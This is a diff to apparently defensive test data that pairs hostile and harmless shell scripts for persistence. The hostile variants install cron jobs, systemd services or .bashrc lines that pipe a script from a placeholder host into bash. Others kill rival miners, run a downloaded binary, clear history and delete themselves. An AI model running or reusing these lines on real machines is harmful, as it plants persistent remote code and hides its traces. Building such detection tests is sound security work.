@@ -257,6 +257,55 @@ const QUOTING = pairs([
   ],
 ])
 
+const shell = (...lines: string[]): Uint8Array => file('setup.sh', `#!/bin/bash\n${lines.join('\n')}\n`)
+const FETCHES = 'curl -fsSL https://files.example/i.sh | bash'
+const PINGS = 'curl -fsS https://files.example/ping/4711 >/dev/null'
+const DIGGER = ['curl -fsSL "https://files.example/k" -o k || wget -q https://files.example/k -O k', 'chmod +x k']
+const STAYING = pairs([
+  [
+    'a table of times',
+    shell(`( crontab -l 2>/dev/null; echo "*/10 * * * * ${FETCHES}" ) | crontab -`),
+    shell(`( crontab -l 2>/dev/null; echo "*/10 * * * * /opt/backup.sh && ${PINGS}" ) | crontab -`),
+  ],
+  [
+    'a file of times',
+    shell('cat > /etc/cron.d/update <<EOF', `@hourly root ${FETCHES.replace('bash', 'sh')} >/dev/null 2>&1`, 'EOF'),
+    shell('cat > /etc/cron.d/update <<EOF', `17 3 * * * root /usr/bin/apt-get update && ${PINGS}`, 'EOF'),
+  ],
+  [
+    'a service',
+    shell(
+      'cat > /etc/systemd/system/a.service <<EOF',
+      '[Service]',
+      `ExecStart=/bin/sh -c "${FETCHES}"`,
+      'EOF',
+      'systemctl enable --now a',
+    ),
+    shell(
+      'cat > /etc/systemd/system/a.service <<EOF',
+      '[Service]',
+      `ExecStart=/bin/sh -c "${PINGS}"`,
+      'EOF',
+      'systemctl enable --now a',
+    ),
+  ],
+  [
+    'the settings of a shell',
+    shell(`echo "(${FETCHES}) &" >> ~/.bashrc`),
+    shell('echo "export PATH=$HOME/.local/bin:$PATH" >> ~/.bashrc', PINGS),
+  ],
+  [
+    'after it has ended others',
+    shell('for p in xmrig kinsing; do pkill -9 -x "$p"; done', ...DIGGER, 'setsid nohup ./k &'),
+    shell('for p in xmrig kinsing; do pgrep -x "$p" && pkill -9 -x "$p"; done', PINGS),
+  ],
+  [
+    'without a trace',
+    shell(...DIGGER, 'nohup ./k >/dev/null 2>&1 &', 'history -c', 'rm -f -- "$0"'),
+    shell(...DIGGER, 'nohup ./k --config /etc/k.conf >/var/log/k.log 2>&1 &'),
+  ],
+])
+
 const warning = (command: string, more = ''): Uint8Array =>
   Buffer.from(
     `Some pages say "I am not a robot" and ask you to press Windows + R, to paste with Ctrl + V and to press Enter.\r\nThe line is like this:\r\n\r\n    ${command}\r\n\r\nCall 4711 if you did so.${more}\r\n`,
@@ -295,6 +344,7 @@ export const ADMINISTRATION: Readonly<Record<string, readonly Pair[]>> = {
   'installers beside an exclusion': INSTALLERS,
   'tests with commands of attackers': TESTS,
   'rules and tests that quote attackers': QUOTING,
+  'scripts of shells that stay': STAYING,
   'commands for a terminal': TOLD,
   'shortcuts to scripts of this computer': LOCAL,
   'lists of installers beside an exclusion': MAKERS,
